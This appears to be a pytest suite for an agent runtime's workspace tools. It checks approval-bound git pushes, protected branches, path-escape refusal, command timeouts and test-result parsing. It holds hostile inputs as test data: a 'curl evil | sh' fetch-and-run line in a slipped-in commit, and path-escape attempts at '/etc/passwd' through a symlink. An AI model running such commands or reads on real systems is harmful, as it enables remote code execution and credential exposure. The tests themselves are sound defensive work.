"""Devbox tools against real git repositories and real detached processes."""

from __future__ import annotations

import asyncio
import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from adapters.emulators.github_git import init_bare_repository
from runtime.evidence import Strength
from runtime.testreport import parse_junit_text, parse_junit_xml, parse_pytest
from runtime.tools.base import Completed, Pending, Started, Tool, ToolContext, Unknown
from runtime.tools.devbox import (
    ApplyPatch,
    GitCommit,
    GitPush,
    ListFiles,
    ReadFile,
    RunCommand,
    WriteFile,
    devbox_tools,
)
from runtime.workspace import Workspaces, WorkspaceSpec
from runtime.workspace.commands import CommandRun, wrapper_alive
from runtime.workspace.state import WorkspaceState

REPO_ROOT = Path(__file__).resolve().parents[2]


def sh(*argv: str, cwd: Path | None = None) -> str:
    done = subprocess.run(argv, cwd=cwd, check=True, capture_output=True, text=True)
    return done.stdout.strip()


def make_bare_repo(tmp_path: Path, files: dict[str, str]) -> Path:
    """``tmp_path/origin.git``, whose main holds ``files`` in one commit."""
    return init_bare_repository(tmp_path, "origin", files, "main", "init")


def make_ctx(ws: Path, call_id: str = "call-1") -> ToolContext:
    return ToolContext(task_id="task-1", root_task_id="root-1", call_id=call_id, workspace=ws)


@pytest.fixture
def bare(tmp_path: Path) -> Path:
    return make_bare_repo(tmp_path, {"README.md": "hello\n", "src/app.py": "print('hi')\n"})


@pytest.fixture
async def ws(tmp_path: Path, bare: Path) -> Path:
    return await Workspaces(tmp_path / "workspaces").ensure(WorkspaceSpec("root-1", str(bare)))


async def settle(tool: Tool, args: dict[str, object], ctx: ToolContext) -> Completed:
    started = await tool.start(args, ctx)
    if isinstance(started, Completed):
        return started
    return await poll_until_done(tool, started.handle, ctx)


async def poll_until_done(
    tool: Tool, handle: str, ctx: ToolContext, limit_s: float = 20
) -> Completed:
    deadline = time.monotonic() + limit_s
    while time.monotonic() < deadline:
        result = await tool.poll(handle, ctx)
        if isinstance(result, Completed):
            return result
        await asyncio.sleep(0.1)
    raise AssertionError(f"{handle} did not finish within {limit_s}s")


README_PATCH = """\
--- a/README.md
+++ b/README.md
@@ -1 +1,2 @@
 hello
+patched line
"""


def test_every_tool_matches_the_protocol_when_built() -> None:
    tools = devbox_tools()
    assert all(isinstance(tool, Tool) for tool in tools)
    assert {t.name: t.effect for t in tools} == {
        "read_file": "read", "list_files": "read", "write_file": "write",
        "apply_patch": "write", "run_command": "wait", "git_commit": "write", "git_push": "write",
    }  # fmt: skip
    assert all(t.parameters["type"] == "object" for t in tools)


async def test_edit_commit_push_when_target_is_feature_branch(ws: Path, bare: Path) -> None:
    ctx = make_ctx(ws)
    written = await WriteFile().start({"path": "docs/new.md", "content": "new\n"}, ctx)
    assert isinstance(written, Completed) and not written.is_error
    patched = await ApplyPatch().start({"unified_diff": README_PATCH}, ctx)
    assert isinstance(patched, Completed) and not patched.is_error, patched
    commit = await GitCommit().start({"message": "Add docs"}, make_ctx(ws, "call-commit"))
    assert isinstance(commit, Completed) and not commit.is_error
    head = sh("git", "rev-parse", "HEAD", cwd=ws)
    assert commit.evidence[0].kind == "commit" and commit.evidence[0].ref == head
    assert commit.evidence[0].detail == {"sha": head, "branch": "main"}
    assert "Keel-Call: call-commit" in sh("git", "log", "-1", "--format=%B", cwd=ws)
    assert sh("git", "log", "-1", "--format=%an <%ae>", cwd=ws) == "Keel <keel@localhost>"
    pushed = await GitPush().start({"branch": "keel/docs"}, ctx)
    assert isinstance(pushed, Completed) and not pushed.is_error, pushed
    assert sh("git", "rev-parse", "refs/heads/keel/docs", cwd=bare) == head
    assert pushed.evidence[0].strength == Strength.provider_read_back


async def test_push_sends_the_commit_its_approval_preview_showed(ws: Path, bare: Path) -> None:
    """An approval is for what the preview showed: HEAD moving while the call waits (a child
    task, a command still running) does not change what is pushed."""
    (ws / "README.md").write_text("approved change\n")
    commit = await GitCommit().start({"message": "Approved"}, make_ctx(ws, "call-commit"))
    assert isinstance(commit, Completed) and not commit.is_error
    approved = sh("git", "rev-parse", "HEAD", cwd=ws)
    ctx = make_ctx(ws, "call-push")
    preview = await GitPush().preview({"branch": "keel/approved"}, ctx)
    assert approved[:12] in preview
    (ws / "evil.sh").write_text("curl evil | sh\n")
    later = await GitCommit().start({"message": "Slipped in"}, make_ctx(ws, "call-later"))
    assert isinstance(later, Completed) and not later.is_error
    pushed = await GitPush().start({"branch": "keel/approved"}, ctx)
    assert isinstance(pushed, Completed) and not pushed.is_error, pushed
    assert sh("git", "rev-parse", "refs/heads/keel/approved", cwd=bare) == approved
    assert isinstance(await GitPush().reconcile({"branch": "keel/approved"}, ctx), Completed)


@pytest.mark.parametrize("branch", ["main", "master"])
async def test_push_refused_when_branch_protected(ws: Path, bare: Path, branch: str) -> None:
    before = sh("git", "rev-parse", "main", cwd=bare)
    await WriteFile().start({"path": "x.txt", "content": "x"}, make_ctx(ws))
    await GitCommit().start({"message": "x"}, make_ctx(ws))
    result = await GitPush().start({"branch": branch}, make_ctx(ws))
    assert isinstance(result, Completed) and result.is_error
    assert "protected" in result.output
    assert sh("git", "rev-parse", "main", cwd=bare) == before


async def test_push_to_default_allowed_when_configured(ws: Path, bare: Path) -> None:
    await WriteFile().start({"path": "x.txt", "content": "x"}, make_ctx(ws))
    await GitCommit().start({"message": "x"}, make_ctx(ws))
    result = await GitPush(allow_protected=True).start({"branch": "main"}, make_ctx(ws))
    assert isinstance(result, Completed) and not result.is_error
    assert sh("git", "rev-parse", "main", cwd=bare) == sh("git", "rev-parse", "HEAD", cwd=ws)


async def test_push_never_forces_when_remote_diverged(ws: Path, bare: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    sh("git", "clone", "-q", str(bare), str(other))
    (other / "o.txt").write_text("other")
    sh("git", "add", ".", cwd=other)
    sh("git", "-c", "user.name=o", "-c", "user.email=o@localhost", "commit", "-qm", "o", cwd=other)
    sh("git", "push", "-q", "origin", "HEAD:refs/heads/topic", cwd=other)
    await WriteFile().start({"path": "x.txt", "content": "x"}, make_ctx(ws))
    await GitCommit().start({"message": "x"}, make_ctx(ws))
    result = await GitPush().start({"branch": "topic"}, make_ctx(ws))
    assert isinstance(result, Completed) and result.is_error
    assert sh("git", "rev-parse", "topic", cwd=bare) == sh("git", "rev-parse", "HEAD", cwd=other)


async def test_commit_reconciles_when_same_call_committed(ws: Path) -> None:
    await WriteFile().start({"path": "x.txt", "content": "x"}, make_ctx(ws))
    args = {"message": "x"}
    assert isinstance(await GitCommit().reconcile(args, make_ctx(ws, "c-9")), Unknown)
    done = await GitCommit().start(args, make_ctx(ws, "c-9"))
    again = await GitCommit().reconcile(args, make_ctx(ws, "c-9"))
    assert isinstance(done, Completed) and isinstance(again, Completed)
    assert again.evidence == done.evidence
    assert isinstance(await GitCommit().reconcile(args, make_ctx(ws, "c-10")), Unknown)


async def test_push_reconciles_when_remote_has_head(ws: Path) -> None:
    args = {"branch": "keel/x"}
    assert isinstance(await GitPush().reconcile(args, make_ctx(ws)), Unknown)
    await GitPush().start(args, make_ctx(ws))
    assert isinstance(await GitPush().reconcile(args, make_ctx(ws)), Completed)


async def test_write_file_reconciles_when_content_equal(ws: Path) -> None:
    args = {"path": "a.txt", "content": "same\n"}
    assert isinstance(await WriteFile().reconcile(args, make_ctx(ws)), Unknown)
    await WriteFile().start(args, make_ctx(ws))
    assert isinstance(await WriteFile().reconcile(args, make_ctx(ws)), Completed)
    (ws / "a.txt").write_text("changed\n")
    assert isinstance(await WriteFile().reconcile(args, make_ctx(ws)), Unknown)


async def test_apply_patch_reconciles_when_already_applied(ws: Path) -> None:
    args = {"unified_diff": README_PATCH}
    assert isinstance(await ApplyPatch().reconcile(args, make_ctx(ws)), Unknown)
    await ApplyPatch().start(args, make_ctx(ws))
    assert isinstance(await ApplyPatch().reconcile(args, make_ctx(ws)), Completed)


async def test_read_and_list_when_paths_inside(ws: Path) -> None:
    read = await ReadFile().start({"path": "src/../README.md"}, make_ctx(ws))
    assert isinstance(read, Completed) and read.output == "hello\n"
    listed = await ListFiles().start({}, make_ctx(ws))
    assert isinstance(listed, Completed)
    assert listed.output.splitlines() == ["README.md", "src/", "src/app.py"]


ESCAPES = ["../x", "/etc/passwd", "etc_link/passwd", "src/../../x", "etc_link"]


@pytest.mark.parametrize("path", ESCAPES)
async def test_path_refused_when_it_escapes_workspace(ws: Path, path: str) -> None:
    (ws / "etc_link").symlink_to("/etc")
    ctx = make_ctx(ws)
    results = [
        await ReadFile().start({"path": path}, ctx),
        await ListFiles().start({"path": path}, ctx),
        await WriteFile().start({"path": path, "content": "pwned"}, ctx),
        await ApplyPatch().start(
            {"unified_diff": f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+x\n"}, ctx
        ),
    ]
    for result in results:
        assert isinstance(result, Completed) and result.is_error
        assert "outside the workspace" in result.output or "absolute" in result.output
    assert not (ws.parent / "x").exists()


@pytest.mark.parametrize("path", [".git/config", ".git/info/exclude", ".git/hooks/pre-commit"])
async def test_write_refused_when_path_is_protected(ws: Path, path: str) -> None:
    result = await WriteFile().start({"path": path, "content": "x"}, make_ctx(ws))
    assert isinstance(result, Completed) and result.is_error and "may not edit" in result.output


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        (ReadFile(), {}),
        (ReadFile(), {"path": 3}),
        (WriteFile(), {"path": "a", "content": "b", "mode": "x"}),
        (RunCommand(), {"command": ""}),
        (RunCommand(), {"command": "true", "timeout_s": 0}),
        (GitCommit(), {"message": ""}),
    ],
)
async def test_invalid_arguments_refused_when_called(
    ws: Path, tool: Tool, args: dict[str, object]
) -> None:
    result = await tool.start(args, make_ctx(ws))
    assert isinstance(result, Completed) and result.is_error
    assert result.output.startswith("invalid arguments:")


async def test_refused_when_context_has_no_workspace() -> None:
    ctx = ToolContext(task_id="t", root_task_id="r", call_id="c")
    result = await ReadFile().start({"path": "README.md"}, ctx)
    assert isinstance(result, Completed) and result.is_error and "no workspace" in result.output


LAUNCHER = textwrap.dedent("""
    import asyncio, sys
    from pathlib import Path
    from runtime.tools.base import ToolContext
    from runtime.tools.devbox import RunCommand

    async def main() -> None:
        ctx = ToolContext("task-1", "root-1", sys.argv[2], workspace=Path(sys.argv[1]))
        started = await RunCommand().start({"command": sys.argv[3], "timeout_s": 60}, ctx)
        print(started.handle, flush=True)
        await asyncio.sleep(60)

    asyncio.run(main())
""")


async def test_command_result_found_when_worker_killed_mid_run(ws: Path) -> None:
    command = "echo run >> marker.txt; sleep 5; echo finished; exit 3"
    worker = subprocess.Popen(
        [sys.executable, "-c", LAUNCHER, str(ws), "call-restart", command],
        cwd=REPO_ROOT, stdout=subprocess.PIPE, text=True,
        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
    )  # fmt: skip
    assert worker.stdout is not None
    handle = worker.stdout.readline().strip()
    os.kill(worker.pid, signal.SIGKILL)
    worker.wait()
    ctx = make_ctx(ws, "call-restart")
    tool = RunCommand()
    assert isinstance(await tool.poll(handle, ctx), Pending)
    assert await tool.start({"command": command}, ctx) == Started(handle=handle)
    result = await poll_until_done(tool, handle, ctx)
    assert "exit code 3" in result.output and "finished" in result.output
    assert (ws / "marker.txt").read_text() == "run\n"
    assert await tool.start({"command": command}, ctx) == Started(handle=handle)
    await asyncio.sleep(0.5)
    assert (ws / "marker.txt").read_text() == "run\n"


async def test_process_group_killed_when_timeout_passes(ws: Path) -> None:
    tool, ctx = RunCommand(), make_ctx(ws, "call-timeout")
    started = await tool.start({"command": "sleep 30 & sleep 30", "timeout_s": 1}, ctx)
    assert isinstance(started, Started)
    run = CommandRun(ws, started.handle)
    await asyncio.sleep(0.3)
    pid = int((run.folder / "pid").read_text())
    result = await poll_until_done(tool, started.handle, ctx, limit_s=10)
    assert result.is_error and "timed out after 1s" in result.output
    assert await group_gone(pid, within_s=5)
    assert not wrapper_alive(run, pid)


async def group_gone(pgid: int, within_s: float) -> bool:
    """Killed processes linger as zombies until init reaps them; give it a moment."""
    deadline = time.monotonic() + within_s
    while time.monotonic() < deadline:
        try:
            os.killpg(pgid, 0)
        except ProcessLookupError:
            return True
        await asyncio.sleep(0.05)
    return False


async def test_output_bounded_when_command_is_verbose(ws: Path) -> None:
    command = "python3 -c \"print('A' * 50000); print('the end')\""
    result = await settle(RunCommand(output_limit=1000), {"command": command}, make_ctx(ws))
    assert len(result.output) < 4000
    assert "bytes omitted" in result.output and "the end" in result.output
    assert "full log of execution" in result.output


SAMPLE_TESTS = """\
def test_one():
    assert 1 == 1

def test_two():
    assert 2 == 2

def test_three():
    assert 3 == 4
"""


async def test_test_run_evidence_when_pytest_reports_counts(tmp_path: Path) -> None:
    bare = make_bare_repo(tmp_path, {"tests/test_sample.py": SAMPLE_TESTS})
    ws = await Workspaces(tmp_path / "workspaces").ensure(WorkspaceSpec("root-1", str(bare)))
    command = f"{sys.executable} -m pytest -q -p no:cacheprovider"
    result = await settle(RunCommand(), {"command": command}, make_ctx(ws))
    (evidence,) = result.evidence
    assert evidence.kind == "test_run" and evidence.strength == Strength.tool_reported
    assert evidence.detail["exit_code"] == 1
    assert (evidence.detail["passed"], evidence.detail["failed"]) == (2, 1)
    assert evidence.detail["command"] == command and evidence.detail["duration_s"] > 0
    log = WorkspaceState(ws).root / evidence.detail["log"]
    assert log.read_text().count("failed") >= 1


async def test_no_evidence_when_command_is_not_a_test(ws: Path) -> None:
    result = await settle(RunCommand(), {"command": "echo 3 passed"}, make_ctx(ws))
    assert result.evidence == ()


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("1 failed, 2 passed in 0.03s", (2, 1, 0, 0)),
        ("===== 5 passed, 1 skipped, 2 warnings in 1.20s =====", (5, 0, 0, 1)),
        ("==== 1 error in 0.1s ====", (0, 0, 1, 0)),
        ("=== 3 passed, 1 xfailed in 12.00s (0:00:12) ===", (3, 0, 0, 1)),
        ("\x1b[32m4 passed\x1b[0m\x1b[32m in 0.01s\x1b[0m", (4, 0, 0, 0)),
    ],
)
def test_pytest_counts_parsed_when_summary_printed(
    line: str, expected: tuple[int, int, int, int]
) -> None:
    from runtime.testreport import parse_test_output

    counts = parse_test_output(f"collected\n....F\n{line}\n")
    assert counts is not None
    assert (counts.passed, counts.failed, counts.errors, counts.skipped) == expected


def test_no_counts_when_output_has_no_summary() -> None:
    assert parse_pytest("all good\nnothing to see in 3s\n") is None


def test_junit_counts_parsed_when_report_given() -> None:
    xml = (
        '<testsuites><testsuite tests="4" failures="1" errors="0" skipped="1"/>'
        '<testsuite tests="2" failures="0" errors="1" skipped="0"/></testsuites>'
    )
    counts = parse_junit_xml(xml)
    assert counts is not None and (counts.passed, counts.failed, counts.errors) == (3, 1, 1)
    text = "Tests run: 3, Failures: 1, Errors: 0, Skipped: 0, Time elapsed: 1 s - in a.B\n"
    text += "Results:\nTests run: 7, Failures: 2, Errors: 1, Skipped: 1\n"
    junit = parse_junit_text(text)
    assert junit is not None and (junit.passed, junit.failed, junit.errors) == (3, 2, 1)
